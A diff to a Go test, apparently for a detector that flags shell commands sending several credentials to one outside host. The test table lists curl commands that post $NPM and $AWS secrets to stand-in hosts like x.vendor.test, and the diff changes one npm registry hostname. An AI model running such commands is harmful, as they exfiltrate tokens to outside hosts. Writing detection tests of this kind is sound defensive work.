@@ -62,7 +62,7 @@ func TestWaysToSend(t *testing.T) {
 		`curl -d "$NPM" https://x.vendor.test; curl -d "$AWS" https://x.vendor.test`:          true,
 		`curl -d "$NPM" https://x.vendor.test`:                                                false,
 		`curl -d "$NPM" https://x.vendor.test; curl -d "$AWS" https://y.vendor.test`:          false,
-		`curl -d "$NPM" https://registry.npmjs.org; curl -d "$AWS" https://sts.amazonaws.com`: false,
+		`curl -d "$NPM" https://registry.npmjs.example; curl -d "$AWS" https://sts.amazonaws.com`: false,
 		`curl -u "u:$NPM" https://x.vendor.test; curl -u "u:$AWS" https://x.vendor.test`:      false,
 		`curl -d "$OWN" https://x.vendor.test`:                                                false,
 		`curl -d "$ALL" http://localhost:8080`:                                                false,
